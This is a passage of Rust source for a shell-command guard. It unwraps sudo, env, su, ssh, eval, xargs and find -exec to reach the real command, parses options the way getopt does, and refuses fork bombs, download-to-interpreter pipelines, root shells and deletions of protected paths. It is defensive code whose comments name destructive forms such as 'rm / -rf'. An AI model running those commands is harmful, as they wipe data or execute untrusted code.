fn static_output(code: &str) -> Option<String> {
    if code.len() > MAX_STATIC_SUBSTITUTION {
        return None;
    }
    let segments = lex(code);
    let [segment] = segments.as_slice() else {
        return None;
    };
    let words: Option<Vec<String>> = segment
        .words
        .iter()
        .map(|word| match word.parts.as_slice() {
            [] => Some(String::new()),
            [Part::Lit(text)] => Some(text.clone()),
            _ => None,
        })
        .collect();
    let words = words?;
    let refs: Vec<&str> = words.iter().map(String::as_str).collect();
    match refs.as_slice() {
        ["which", name] | ["command", "-v", name] | ["type", "-P" | "-p", name] => {
            Some((*name).to_string())
        }
        ["echo", rest @ ..] => {
            let shown: Vec<&str> = rest.iter().copied().skip_while(|w| is_echo_flag(w)).collect();
            Some(shown.join(" "))
        }
        ["printf", format] if !format.contains('%') => Some(decode_escapes(format)),
        _ => None,
    }
}

/// `NAME=value` (or `NAME+=value`): returns the name and value.
fn split_assignment(text: &str) -> Option<(&str, &str)> {
    let (name, value) = text.split_once('=')?;
    let name = name.strip_suffix('+').unwrap_or(name);
    is_identifier(name).then_some((name, value))
}

/// A valid shell variable name.
fn is_identifier(name: &str) -> bool {
    let mut chars = name.chars();
    chars.next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// Records `NAME=value`, remembering when the value is unknown.
fn assign(env: &mut Env, arg: &Arg) {
    if let Some((name, value)) = split_assignment(&arg.text) {
        let known = !arg.dynamic && !value.contains(UNKNOWN_VALUE);
        env.vars.insert(name.to_string(), known.then(|| value.to_string()));
    }
}

/// Effects on later commands: `cd`, `export`, `for x in …`, `unset`.
fn apply_env_effects(argv: &[Arg], env: &mut Env) {
    let (verb, args) = verb_and_args(argv);
    match verb {
        "cd" | "pushd" => env.cwd = cd_target(args, env.cwd.as_deref()),
        "export" | "declare" | "typeset" | "local" | "readonly" => {
            args.iter().for_each(|arg| assign(env, arg));
        }
        "unset" => {
            for arg in args {
                env.vars.remove(&arg.text);
            }
        }
        "for" | "select" => record_loop_variable(args, env),
        _ => {}
    }
}

/// `for d in a b c`: the guard cannot follow the loop, so `d` takes the most dangerous
/// value among the list (a protected path if there is one).
fn record_loop_variable(args: &[Arg], env: &mut Env) {
    let (Some(name), Some(keyword)) = (args.first(), args.get(1)) else {
        return;
    };
    if keyword.text != "in" || !is_identifier(&name.text) {
        return;
    }
    let values = args.get(2..).unwrap_or_default();
    let cwd = env.cwd.clone();
    let pick = values
        .iter()
        .find(|value| protected_target(value, cwd.as_deref()).is_some())
        .or_else(|| values.first());
    let value = pick.filter(|value| !value.dynamic).map(|value| value.text.clone());
    env.vars.insert(name.text.clone(), value);
}

/// Where `cd ARGS` leads, when the guard can tell (relative paths need a known cwd).
fn cd_target(args: &[Arg], cwd: Option<&str>) -> Option<String> {
    let target = args.iter().find(|arg| !(arg.text.starts_with('-') && arg.text.len() > 1));
    let Some(target) = target else {
        return Some("~".to_string());
    };
    if target.dynamic || target.text == "-" {
        return None;
    }
    let path = normalize_path(&target.text, cwd);
    (path.starts_with('/') || path.starts_with('~')).then_some(path)
}

/// Verbs given by path are the verb (`/bin/rm` is `rm`).
fn basename(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// The command's verb (basename) and its arguments.
fn verb_and_args(argv: &[Arg]) -> (&str, &[Arg]) {
    match argv.split_first() {
        Some((first, rest)) => (basename(&first.text), rest),
        None => ("", &[]),
    }
}

/// The arguments as the guard sees them, for messages and phrase checks.
fn render(args: &[Arg]) -> String {
    args.iter().map(Arg::shown).collect::<Vec<_>>().join(" ")
}

/// Arguments re-joined as shell source (what `eval`, `watch` and `ssh` run).
fn join_scripts(args: &[Arg]) -> String {
    args.iter().map(|arg| arg.script.as_str()).collect::<Vec<_>>().join(" ")
}

// ---------------------------------------------------------------------------------------
// Option parsing
// ---------------------------------------------------------------------------------------

/// How a program's options are parsed, so that its operands (or the command it wraps)
/// are found the way the program itself finds them.
struct OptSpec {
    /// Short options taking a value, attached (`-uroot`) or as the next word.
    short_values: &'static str,
    /// Long options (without `--`) taking the next word as value.
    long_values: &'static [&'static str],
    /// GNU permutation: options may follow operands (`rm / -rf`).
    permute: bool,
    /// Shells also accept `+o` style options.
    plus: bool,
}

const fn wrapper(short_values: &'static str, long_values: &'static [&'static str]) -> OptSpec {
    OptSpec { short_values, long_values, permute: false, plus: false }
}

const fn gnu(short_values: &'static str, long_values: &'static [&'static str]) -> OptSpec {
    OptSpec { short_values, long_values, permute: true, plus: false }
}

const NO_VALUES: OptSpec = wrapper("", &[]);
const GNU_PLAIN: OptSpec = gnu("", &[]);
const SUDO: OptSpec = wrapper(
    "ugCDprtTUR",
    &[
        "user",
        "group",
        "close-from",
        "chdir",
        "prompt",
        "role",
        "type",
        "command-timeout",
        "other-user",
        "host",
        "chroot",
    ],
);
const DOAS: OptSpec = wrapper("uC", &[]);
const PKEXEC: OptSpec = wrapper("", &["user"]);
const ENV: OptSpec = wrapper("uCS", &["unset", "chdir", "split-string"]);
const TIME: OptSpec = wrapper("fo", &["format", "output"]);
const EXEC: OptSpec = wrapper("a", &[]);
const NICE: OptSpec = wrapper("n", &["adjustment"]);
const IONICE: OptSpec = wrapper("cnpPu", &["class", "classdata", "pid", "pgid", "uid"]);
const TIMEOUT: OptSpec = wrapper("sk", &["signal", "kill-after"]);
const STDBUF: OptSpec = wrapper("ioe", &["input", "output", "error"]);
const CHRT: OptSpec = wrapper("TPD", &["sched-runtime", "sched-period", "sched-deadline"]);
const CHROOT: OptSpec = wrapper("", &["userspec", "groups"]);
const SYSTEMD_RUN: OptSpec = wrapper(
    "upEMH",
    &[
        "unit",
        "property",
        "description",
        "slice",
        "setenv",
        "uid",
        "gid",
        "nice",
        "working-directory",
        "machine",
        "host",
        "on-active",
        "on-boot",
        "on-startup",
        "on-unit-active",
        "on-unit-inactive",
        "on-calendar",
        "timer-property",
        "path-property",
        "socket-property",
        "service-type",
    ],
);
const NSENTER: OptSpec = wrapper("tSG", &["target", "setuid", "setgid"]);
const UNSHARE: OptSpec = wrapper("", &["setuid", "setgid", "map-user", "map-group", "propagation"]);
const FLOCK: OptSpec = wrapper("wEc", &["timeout", "conflict-exit-code", "command"]);
const XARGS: OptSpec = wrapper(
    "adEILnPs",
    &[
        "arg-file",
        "delimiter",
        "eof",
        "max-lines",
        "max-args",
        "max-procs",
        "max-chars",
        "process-slot-var",
    ],
);
const WATCH: OptSpec = wrapper("nq", &["interval", "equexit"]);
const SSH: OptSpec = wrapper("BbcDEeFIiJLlmOoPpQRSWw", &[]);
const RUNUSER: OptSpec =
    wrapper("ugGsw", &["user", "group", "supp-group", "shell", "whitelist-environment"]);
const SHELL_OPTIONS: OptSpec = OptSpec {
    short_values: "oO",
    long_values: &["rcfile", "init-file", "command"],
    permute: false,
    plus: true,
};
const SYSTEMCTL: OptSpec = gnu(
    "tspPnoHM",
    &[
        "type",
        "signal",
        "property",
        "lines",
        "output",
        "host",
        "machine",
        "state",
        "root",
        "kill-whom",
        "kill-value",
        "job-mode",
        "what",
        "boot-loader-menu",
        "boot-loader-entry",
        "timestamp",
        "reboot-argument",
        "preset-mode",
        "image",
        "message",
        "when",
        "drop-in",
    ],
);
const COPY: OptSpec = gnu("tSmog", &["target-directory", "suffix", "mode", "owner", "group"]);
const RSYNC: OptSpec = gnu(
    "eBfTM",
    &[
        "rsh",
        "filter",
        "exclude",
        "include",
        "exclude-from",
        "include-from",
        "files-from",
        "temp-dir",
        "backup-dir",
        "suffix",
        "rsync-path",
        "chmod",
        "chown",
        "log-file",
        "password-file",
        "port",
        "partial-dir",
        "compare-dest",
        "copy-dest",
        "link-dest",
        "out-format",
        "timeout",
        "bwlimit",
        "max-size",
        "min-size",
    ],
);
const PKILL: OptSpec = gnu(
    "uUgGPstF",
    &[
        "signal", "uid", "euid", "group", "pgroup", "parent", "session", "terminal", "pidfile",
        "ns", "nslist", "user",
    ],
);
const SETFACL: OptSpec =
    gnu("mMxX", &["set", "set-file", "modify", "modify-file", "remove", "remove-file", "restore"]);
const SED: OptSpec = gnu("efl", &["expression", "file", "line-length"]);
const FILE_TOOLS: OptSpec = gnu("srn", &["size", "reference", "iterations", "random-source"]);

#[derive(Debug, Clone, PartialEq, Eq)]
enum Opt {
    Short(char),
    Long(String),
}

/// The options and operands of one command line.
#[derive(Debug, Default)]
struct Scan {
    shorts: Vec<char>,
    longs: Vec<String>,
    values: Vec<(Opt, Arg)>,
    operands: Vec<Arg>,
}

impl Scan {
    fn short(&self, c: char) -> bool {
        self.shorts.contains(&c)
    }

    fn long(&self, name: &str) -> bool {
        self.longs.iter().any(|long| long == name)
    }

    /// Whether a long option abbreviates `name` (`--rec` for `--recursive`), as getopt allows.
    fn long_abbreviates(&self, name: &str) -> bool {
        self.longs.iter().any(|long| !long.is_empty() && name.starts_with(long.as_str()))
    }

    fn value(&self, short: char, long: &str) -> Option<&Arg> {
        self.values
            .iter()
            .find(|(opt, _)| match opt {
                Opt::Short(c) => *c == short,
                Opt::Long(name) => name == long,
            })
            .map(|(_, value)| value)
    }

    fn long_option(&mut self, long: &str, next: Option<&Arg>, spec: &OptSpec) -> usize {
        let (name, attached) = match long.split_once('=') {
            Some((name, value)) => (name, Some(value)),
            None => (long, None),
        };
        self.longs.push(name.to_string());
        if let Some(value) = attached {
            self.values.push((Opt::Long(name.to_string()), Arg::plain(value)));
            return 0;
        }
        if !spec.long_values.contains(&name) {
            return 0;
        }
        if let Some(value) = next {
            self.values.push((Opt::Long(name.to_string()), value.clone()));
        }
        1
    }

    fn short_options(&mut self, flags: &str, next: Option<&Arg>, spec: &OptSpec) -> usize {
        for (at, c) in flags.char_indices() {
            self.shorts.push(c);
            if !spec.short_values.contains(c) {
                continue;
            }
            let attached = flags.get(at + c.len_utf8()..).unwrap_or_default();
            if !attached.is_empty() {
                self.values.push((Opt::Short(c), Arg::plain(attached)));
                return 0;
            }
            if let Some(value) = next {
                self.values.push((Opt::Short(c), value.clone()));
            }
            return 1;
        }
        0
    }
}

/// Parses options the way getopt does; without permutation, the first operand ends them
/// (which is how wrappers find the command they run).
fn scan(args: &[Arg], spec: &OptSpec) -> Scan {
    let mut scan = Scan::default();
    let mut i = 0;
    while let Some(arg) = args.get(i) {
        i += 1;
        let text = arg.text.as_str();
        if text == "--" {
            scan.operands.extend(args.get(i..).unwrap_or_default().iter().cloned());
            break;
        }
        if let Some(long) = text.strip_prefix("--") {
            i += scan.long_option(long, args.get(i), spec);
            continue;
        }
        let flags =
            text.strip_prefix('-').or_else(
                || {
                    if spec.plus {
                        text.strip_prefix('+')
                    } else {
                        None
                    }
                },
            );
        match flags {
            Some(flags) if !flags.is_empty() => i += scan.short_options(flags, args.get(i), spec),
            _ if spec.permute => scan.operands.push(arg.clone()),
            _ => {
                scan.operands.extend(args.get(i - 1..).unwrap_or_default().iter().cloned());
                break;
            }
        }
    }
    scan
}

/// The arguments after the first `n`, or none.
fn skip(args: &[Arg], n: usize) -> &[Arg] {
    args.get(n..).unwrap_or_default()
}

// ---------------------------------------------------------------------------------------
// Unwrapping
// ---------------------------------------------------------------------------------------

/// A simple command with its wrappers stripped.
#[derive(Debug, Default)]
struct Unwrapped {
    /// Every verb met, wrappers included (`sudo`, `env`, `bash`, …).
    verbs: Vec<String>,
    /// The real command; empty when the wrappers run shell code or nothing.
    argv: Vec<Arg>,
    /// Shell code a wrapper runs (`sh -c`, `eval`, `su -c`, `watch`, `ssh`, `trap`, `alias`).
    scripts: Vec<String>,
    /// Commands `find -exec` runs, `{}` replaced by the start path.
    execs: Vec<Unwrapped>,
    /// Set when a wrapper opens a shell as another user (`su`, `sudo -i`).
    shell: Option<&'static str>,
    too_complex: bool,
}

/// What one wrapper does with the rest of the command line.
enum Step {
    /// Not a wrapper: this is the real command.
    Final,
    /// A wrapper: judge this command instead.
    Run(Vec<Arg>),
    /// Runs these strings as shell code.
    Scripts(Vec<String>),
    /// Runs nothing that needs judging.
    Nothing,
    /// Opens an interactive shell as another user.
    Shell(&'static str),
}

/// Strips wrappers until the real command is reached.
fn unwrap(args: Vec<Arg>, feed: &[String], depth: usize) -> Unwrapped {
    let mut out = Unwrapped::default();
    let mut argv = args;
    for _ in 0..MAX_WRAPPERS {
        strip_noise(&mut argv);
        let Some(first) = argv.first() else {
            return out;
        };
        let verb = basename(&first.text).to_string();
        let step = wrapper_step(&verb, skip(&argv, 1), feed);
        out.verbs.push(verb);
        match step {
            Step::Final => {
                out.argv = argv;
                add_find_execs(&mut out, depth);
                return out;
            }
            Step::Run(next) => argv = next,
            Step::Scripts(scripts) => {
                out.scripts = scripts;
                return out;
            }
            Step::Nothing => return out,
            Step::Shell(what) => {
                out.shell = Some(what);
                return out;
            }
        }
    }
    out.too_complex = true;
    out
}

/// Drops compound-command keywords and `VAR=value` prefixes, which only set up the command.
fn strip_noise(argv: &mut Vec<Arg>) {
    let noise = argv
        .iter()
        .take_while(|arg| {
            NOISE_WORDS.contains(&arg.text.as_str()) || split_assignment(&arg.text).is_some()
        })
        .count();
    argv.drain(..noise);
}

/// What a verb does with the rest of its command line, if it is a known wrapper.
fn wrapper_step(verb: &str, rest: &[Arg], feed: &[String]) -> Step {
    match verb {
        "sudo" => sudo_step(rest),
        "doas" => doas_step(rest),
        "pkexec" => run_rest(&scan(rest, &PKEXEC).operands),
        "env" => env_step(rest),
        "nohup" | "builtin" | "unbuffer" | "busybox" | "setsid" | "coproc" => {
            run_rest(&scan(rest, &NO_VALUES).operands)
        }
        "time" => run_rest(&scan(rest, &TIME).operands),
        "command" => command_step(rest),
        "exec" => run_rest(&scan(rest, &EXEC).operands),
        "nice" => run_rest(&scan(rest, &NICE).operands),
        "ionice" => pid_mode_or_run(rest, &IONICE, &['p', 'P', 'u'], 0),
        "taskset" => pid_mode_or_run(rest, &NO_VALUES, &['p'], 1),
        "chrt" => pid_mode_or_run(rest, &CHRT, &['p'], 1),
        "timeout" => run_rest(skip(&scan(rest, &TIMEOUT).operands, 1)),
        "stdbuf" => run_rest(&scan(rest, &STDBUF).operands),
        "chroot" => run_rest(skip(&scan(rest, &CHROOT).operands, 1)),
        "systemd-run" => run_rest(&scan(rest, &SYSTEMD_RUN).operands),
        "nsenter" => run_rest(&scan(rest, &NSENTER).operands),
        "unshare" => run_rest(&scan(rest, &UNSHARE).operands),
        "flock" => flock_step(rest),
        "xargs" => xargs_step(rest, feed),
        "watch" => watch_step(rest),
        "ssh" => ssh_step(rest),
        "su" | "runuser" => su_step(verb, rest),
        "eval" => code_step(vec![join_scripts(rest)]),
        "alias" => alias_step(rest),
        "trap" => trap_step(rest),
        _ if SHELLS.contains(&verb) => shell_step(rest),
        _ => Step::Final,
    }
}

/// Runs the remaining words as a command, if there are any.
fn run_rest(rest: &[Arg]) -> Step {
    if rest.is_empty() {
        Step::Nothing
    } else {
        Step::Run(rest.to_vec())
    }
}

/// Runs strings as shell code, ignoring empty ones.
fn code_step(scripts: Vec<String>) -> Step {
    let scripts: Vec<String> = scripts.into_iter().filter(|code| !code.trim().is_empty()).collect();
    if scripts.is_empty() {
        Step::Nothing
    } else {
        Step::Scripts(scripts)
    }
}

/// `ionice -p PID`, `taskset -p …`: acts on running processes, runs no command.
fn pid_mode_or_run(rest: &[Arg], spec: &OptSpec, pid_flags: &[char], operands: usize) -> Step {
    let scan = scan(rest, spec);
    if pid_flags.iter().any(|flag| scan.short(*flag)) {
        return Step::Nothing;
    }
    run_rest(skip(&scan.operands, operands))
}

/// `sudo [opts] command`; `sudo -e` edits files, `sudo -i`/`-s` alone opens a root shell.
fn sudo_step(rest: &[Arg]) -> Step {
    let scan = scan(rest, &SUDO);
    if scan.short('e') || scan.long("edit") {
        let mut edit = vec![Arg::plain("sudoedit")];
        edit.extend(scan.operands.iter().cloned());
        return Step::Run(edit);
    }
    if !scan.operands.is_empty() {
        return Step::Run(scan.operands);
    }
    if scan.short('i') || scan.short('s') || scan.long("login") || scan.long("shell") {
        return Step::Shell("sudo -i / sudo -s");
    }
    Step::Nothing
}

/// `doas [opts] command`; `doas -s` alone opens a root shell.
fn doas_step(rest: &[Arg]) -> Step {
    let scan = scan(rest, &DOAS);
    if scan.operands.is_empty() && scan.short('s') {
        return Step::Shell("doas -s");
    }
    run_rest(&scan.operands)
}

/// `env [-i] [-u NAME] [-S STRING] [NAME=value]… command`.
fn env_step(rest: &[Arg]) -> Step {
    let scan = scan(rest, &ENV);
    let mut operands = scan.operands.clone();
    if operands.first().is_some_and(|arg| arg.text == "-") {
        operands.remove(0);
    }
    if let Some(split) = scan.value('S', "split-string") {
        let mut words = split_words(&split.script);
        words.extend(operands);
        operands = words;
    }
    run_rest(&operands)
}

/// Splits `env -S` text into words with shell-like quoting.
fn split_words(text: &str) -> Vec<Arg> {
    let env = Env::default();
    lex(text)
        .iter()
        .flat_map(|segment| segment.words.iter())
        .flat_map(|w| resolve_word(w, &env))
        .collect()
}

/// `command -v x` only looks a name up; `command x` runs it.
fn command_step(rest: &[Arg]) -> Step {
    let scan = scan(rest, &NO_VALUES);
    if scan.short('v') || scan.short('V') {
        return Step::Nothing;
    }
    run_rest(&scan.operands)
}

/// `flock [opts] FILE command…` or `flock [opts] FILE -c CODE`.
fn flock_step(rest: &[Arg]) -> Step {
    let first = scan(rest, &FLOCK);
    if let Some(code) = first.value('c', "command") {
        return code_step(vec![code.script.clone()]);
    }
    let after_file = skip(&first.operands, 1);
    let second = scan(after_file, &FLOCK);
    if let Some(code) = second.value('c', "command") {
        return code_step(vec![code.script.clone()]);
    }
    run_rest(&second.operands)
}

/// `xargs [opts] command…`: the command is judged with the input the guard can predict
/// (what `echo`, `printf`, `find` or `ls` feed it) appended or substituted.
fn xargs_step(rest: &[Arg], feed: &[String]) -> Step {
    let scan = scan(rest, &XARGS);
    let mut command = scan.operands.clone();
    if command.is_empty() {
        command.push(Arg::plain("echo"));
    }
    let placeholder = match scan.value('I', "replace") {
        Some(value) => Some(value.text.clone()),
        None if scan.short('i') || scan.long("replace") => Some("{}".to_string()),
        None => None,
    };
    match placeholder {
        Some(placeholder) if !placeholder.is_empty() && !feed.is_empty() => {
            let input = feed.join(" ");
            for arg in command.iter_mut().skip(1) {
                arg.text = arg.text.replace(&placeholder, &input);
                arg.script = arg.script.replace(&placeholder, &input);
            }
        }
        Some(_) => {}
        None => command.extend(feed.iter().map(|item| Arg::plain(item))),
    }
    Step::Run(command)
}

/// `watch` runs its arguments through `sh -c` unless given `-x`.
fn watch_step(rest: &[Arg]) -> Step {
    let scan = scan(rest, &WATCH);
    if scan.short('x') || scan.long("exec") {
        return run_rest(&scan.operands);
    }
    code_step(vec![join_scripts(&scan.operands)])
}

/// `ssh host command…` runs the command on another host; it is judged all the same.
fn ssh_step(rest: &[Arg]) -> Step {
    let scan = scan(rest, &SSH);
    code_step(vec![join_scripts(skip(&scan.operands, 1))])
}

/// `su [-] [user] [-c CODE]`: with `-c` the code is judged, without it the command
/// switches user (usually to root), which is refused.
fn su_step(verb: &str, rest: &[Arg]) -> Step {
    for (i, arg) in rest.iter().enumerate() {
        let text = arg.text.as_str();
        if let Some(code) =
            text.strip_prefix("--command=").or_else(|| text.strip_prefix("--session-command="))
        {
            return code_step(vec![code.to_string()]);
        }
        let takes_next = matches!(text, "--command" | "--session-command")
            || (text.starts_with('-') && !text.starts_with("--") && text.ends_with('c'));
        if takes_next {
            return match rest.get(i + 1) {
                Some(code) => code_step(vec![code.script.clone()]),
                None => Step::Nothing,
            };
        }
    }
    if verb == "runuser" {
        let scan = scan(rest, &RUNUSER);
        if scan.value('u', "user").is_some() {
            return run_rest(&scan.operands);
        }
    }
    Step::Shell("su")
}

/// `sh -c CODE` runs CODE; other shell invocations are judged as commands.
fn shell_step(rest: &[Arg]) -> Step {
    let scan = scan(rest, &SHELL_OPTIONS);
    if let Some(code) = scan.value('\0', "command") {
        return code_step(vec![code.script.clone()]);
    }
    if scan.short('c') {
        return match scan.operands.first() {
            Some(code) => code_step(vec![code.script.clone()]),
            None => Step::Nothing,
        };
    }
    Step::Final
}

/// `alias name='code'`: the code runs whenever the alias is used.
fn alias_step(rest: &[Arg]) -> Step {
    let scripts =
        rest.iter().filter_map(|arg| arg.script.split_once('=')).map(|(_, code)| code.to_string());
    code_step(scripts.collect())
}

/// `trap 'code' SIGNAL…`: the code runs when the signal arrives.
fn trap_step(rest: &[Arg]) -> Step {
    match rest {
        [code, _, ..] if !code.text.starts_with('-') => code_step(vec![code.script.clone()]),
        _ => Step::Nothing,
    }
}

/// Judges what `find -exec` runs, with `{}` replaced by the start path.
fn add_find_execs(out: &mut Unwrapped, depth: usize) {
    let (verb, args) = verb_and_args(&out.argv);
    if verb != "find" {
        return;
    }
    let info = find_info(args);
    if info.execs.is_empty() {
        return;
    }
    if depth + 1 > MAX_DEPTH {
        out.too_complex = true;
        return;
    }
    let mut starts: Vec<Arg> = info.starts.iter().take(1).cloned().collect();
    if let Some(protected) = info.starts.iter().find(|s| protected_target(s, None).is_some()) {
        if !starts.contains(protected) {
            starts.push(protected.clone());
        }
    }
    if starts.is_empty() {
        starts.push(Arg::plain("."));
    }
    for command in &info.execs {
        for start in &starts {
            out.execs.push(unwrap(substitute_braces(command, start), &[], depth + 1));
        }
    }
}

/// Replaces `find`'s `{}` by a start path, so `-exec rm -rf {}` is judged on that path.
fn substitute_braces(command: &[Arg], start: &Arg) -> Vec<Arg> {
    command
        .iter()
        .map(|arg| {
            if !arg.text.contains("{}") {
                return arg.clone();
            }
            Arg {
                text: arg.text.replace("{}", &start.text),
                script: arg.script.replace("{}", &start.script),
                dynamic: arg.dynamic || start.dynamic,
            }
        })
        .collect()
}

/// The parts of a `find` command line that matter: start paths, `-delete`, `-exec`.
#[derive(Debug, Default)]
struct FindInfo {
    starts: Vec<Arg>,
    delete: bool,
    execs: Vec<Vec<Arg>>,
}

/// Parses `find [-H|-L|-P] [paths…] [expression]` for the parts that matter.
fn find_info(args: &[Arg]) -> FindInfo {
    let mut info = FindInfo::default();
    let mut i = 0;
    while let Some(arg) = args.get(i) {
        match arg.text.as_str() {
            "-H" | "-L" | "-P" => i += 1,
            "-D" => i += 2,
            text if text.starts_with("-O") => i += 1,
            _ => break,
        }
    }
    while let Some(arg) = args.get(i) {
        let text = arg.text.as_str();
        if text.starts_with('-') || matches!(text, "(" | "!" | ",") {
            break;
        }
        info.starts.push(arg.clone());
        i += 1;
    }
    while let Some(arg) = args.get(i) {
        i += 1;
        match arg.text.as_str() {
            "-delete" => info.delete = true,
            "-exec" | "-execdir" | "-ok" | "-okdir" => {
                let mut command = Vec::new();
                while let Some(next) = args.get(i) {
                    i += 1;
                    if next.text == ";" || next.text == "+" {
                        break;
                    }
                    command.push(next.clone());
                }
                info.execs.push(command);
            }
            _ => {}
        }
    }
    info
}

// ---------------------------------------------------------------------------------------
// Walking the command
// ---------------------------------------------------------------------------------------

/// What the guard knows about one simple command before judging it.
struct SegInfo {
    /// The command as written (after quote removal), for phrase checks and messages.
    raw: String,
    unwrapped: Unwrapped,
    /// Output redirections: operator and target.
    redirects: Vec<(&'static str, Arg)>,
    /// Inner code of every substitution in the command.
    subs: Vec<String>,
    /// Heredoc or herestring text, rendered as shell code.
    stdin_text: Option<String>,
    cwd: Option<String>,
    piped: bool,
    piped_into: bool,
    /// Whether standard input is redirected from a file (`sh < script.sh`).
    reads_file: bool,
    stage: Stage,
    /// File this command downloads into (`curl -o FILE`), so running it can be caught.
    download: Option<String>,
}

/// A command's role in a pipeline.
#[derive(Debug, Default)]
struct Stage {
    downloader: bool,
    decoder: bool,
    /// Text the command prints that the guard can predict (`echo`, `printf`, `cat <<EOF`).
    literal: Option<String>,
    /// Whether the command runs its standard input as code (`sh`, `python3 -`, `at`).
    stdin_exec: bool,
    /// What `xargs` downstream would receive.
    feed: Vec<String>,
}

/// Which kinds of programs some shell code runs.
#[derive(Debug, Clone, Copy, Default)]
struct Kinds {
    downloader: bool,
    decoder: bool,
}

impl Kinds {
    fn merge(&mut self, other: Kinds) {
        self.downloader |= other.downloader;
        self.decoder |= other.decoder;
    }
}

/// One reason to refuse, before it is attached to a segment.
struct Finding {
    rule: &'static str,
    reason: String,
}

impl Finding {
    fn new(rule: &'static str, reason: impl Into<String>) -> Self {
        Self { rule, reason: reason.into() }
    }

    fn refuse(self, segment: &str) -> Refusal {
        Refusal::new(self.rule, self.reason, segment)
    }
}

/// Walks one command, keeping the recursion budget.
struct Walker<'g> {
    guard: &'g CommandGuard,
    work: usize,
}

impl Walker<'_> {
    /// Judges a piece of shell code: every simple command, pipeline and nested code.
    fn script(&mut self, text: &str, depth: usize, env: &Env) -> Result<(), Refusal> {
        self.enter(text, depth)?;
        if fork_bomb(text) {
            return Err(Refusal::new(
                FORK_BOMB,
                "defines a function that keeps spawning copies of itself (fork bomb)",
                text,
            ));
        }
        let segments = lex(text);
        let infos = self.prepare_all(&segments, depth, env);
        self.check_pipelines(&infos, depth)?;
        let downloads: Vec<String> =
            infos.iter().filter_map(|info| info.download.clone()).collect();
        for info in &infos {
            self.judge_segment(info, &downloads, depth)?;
        }
        self.judge_phrases(text, text)
    }

    /// Charges the recursion and work budgets, so hostile nesting ends in a refusal
    /// instead of a stack overflow or a check that never finishes.
    fn enter(&mut self, text: &str, depth: usize) -> Result<(), Refusal> {
        if depth > MAX_DEPTH {
            return Err(Refusal::too_complex(
                format!("shell code is nested more than {MAX_DEPTH} levels deep"),
                text,
            ));
        }
        self.work = self.work.saturating_add(text.len()).saturating_add(WORK_PER_PIECE);
        if self.work > MAX_WORK_CHARS {
            return Err(Refusal::too_complex(
                "the command expands into too much nested shell code to check",
                text,
            ));
        }
        Ok(())
    }

    /// Resolves every segment in order, because earlier ones (`cd /`, `X=/`, `echo / |`)
    /// change what later ones do.
    fn prepare_all(&mut self, segments: &[Segment], depth: usize, env: &Env) -> Vec<SegInfo> {
        let mut env = env.clone();
        let mut feed: Vec<String> = Vec::new();
        let mut piped_into = false;
        let mut infos = Vec::with_capacity(segments.len());
        for segment in segments {
            let info = self.prepare(segment, &mut env, &feed, piped_into, depth);
            feed = if segment.piped { info.stage.feed.clone() } else { Vec::new() };
            piped_into = segment.piped;
            infos.push(info);
        }
        infos
    }

    /// Expands, unwraps and classifies one segment, updating `env` with its effects.
    fn prepare(
        &mut self,
        segment: &Segment,
        env: &mut Env,
        feed: &[String],
        piped_into: bool,
        depth: usize,
    ) -> SegInfo {
        let args: Vec<Arg> = segment.words.iter().flat_map(|w| resolve_word(w, env)).collect();
        let cwd = env.cwd.clone();
        let redirects: Vec<(&'static str, Arg)> = segment
            .redirects
            .iter()
            .filter(|redirect| redirect.write)
            .flat_map(|redirect| {
                let targets = resolve_word(&redirect.target, env);
                targets.into_iter().map(|target| (redirect.operator, target))
            })
            .collect();
        let stdin_text = segment.stdin.as_ref().map(|word| join_scripts(&resolve_word(word, env)));
        if !args.is_empty() && args.iter().all(|arg| split_assignment(&arg.text).is_some()) {
            args.iter().for_each(|arg| assign(env, arg));
        }
        let raw = render(&args);
        let unwrapped = unwrap(args, feed, depth);
        apply_env_effects(&unwrapped.argv, env);
        let stage = self.stage_of(&unwrapped, stdin_text.as_deref(), depth);
        let redirected = redirects.first().filter(|_| stage.downloader);
        let download = download_target(&unwrapped.argv, cwd.as_deref())
            .or_else(|| redirected.map(|(_, target)| normalize_path(&target.text, cwd.as_deref())));
        SegInfo {
            raw,
            unwrapped,
            redirects,
            subs: segment.substitutions(),
            stdin_text,
            cwd,
            piped: segment.piped,
            piped_into,
            reads_file: segment.redirects.iter().any(|redirect| !redirect.write),
            stage,
            download,
        }
    }

    /// The segment's role in a pipeline: what it feeds downstream, and whether it runs
    /// what it is fed.
    fn stage_of(&mut self, unwrapped: &Unwrapped, stdin: Option<&str>, depth: usize) -> Stage {
        let (verb, args) = verb_and_args(&unwrapped.argv);
        let mut kinds = kinds_of(unwrapped);
        for code in &unwrapped.scripts {
            kinds.merge(self.classify(code, depth));
        }
        let literal = literal_output(verb, args, stdin);
        let feed = feed_of(verb, args, literal.as_deref());
        Stage {
            downloader: kinds.downloader,
            decoder: kinds.decoder,
            literal,
            stdin_exec: is_stdin_executor(&unwrapped.argv) || xargs_runs_code(unwrapped),
            feed,
        }
    }

    /// Which kinds of programs some shell code runs (used for code whose output is run).
    fn classify(&mut self, text: &str, depth: usize) -> Kinds {
        let mut kinds = Kinds::default();
        if depth >= MAX_DEPTH || self.work > MAX_WORK_CHARS {
            return kinds;
        }
        self.work = self.work.saturating_add(text.len()).saturating_add(WORK_PER_PIECE);
        let env = Env::default();
        for segment in lex(text) {
            let args: Vec<Arg> = segment.words.iter().flat_map(|w| resolve_word(w, &env)).collect();
            let unwrapped = unwrap(args, &[], depth + 1);
            kinds.merge(kinds_of(&unwrapped));
            for code in unwrapped.scripts.iter().chain(segment.substitutions().iter()) {
                kinds.merge(self.classify(code, depth + 1));
            }
        }
        kinds
    }

    /// Kinds of programs run by any of several pieces of code.
    fn classify_all(&mut self, codes: &[String], depth: usize) -> Kinds {
        let mut kinds = Kinds::default();
        for code in codes {
            kinds.merge(self.classify(code, depth));
        }
        kinds
    }

    /// Downloaded or decoded text piped into an interpreter, and predictable text piped
    /// into a shell (judged as code).
    fn check_pipelines(&mut self, infos: &[SegInfo], depth: usize) -> Result<(), Refusal> {
        let mut start = 0;
        for (i, info) in infos.iter().enumerate() {
            if !info.piped || i + 1 == infos.len() {
                self.check_pipeline(infos.get(start..=i).unwrap_or_default(), depth)?;
                start = i + 1;
            }
        }
        Ok(())
    }

    /// One pass over the stages: an interpreter stage is refused when any earlier stage
    /// downloads or decodes, and earlier predictable text is judged as code (each once).
    fn check_pipeline(&mut self, stages: &[SegInfo], depth: usize) -> Result<(), Refusal> {
        let mut downloader = false;
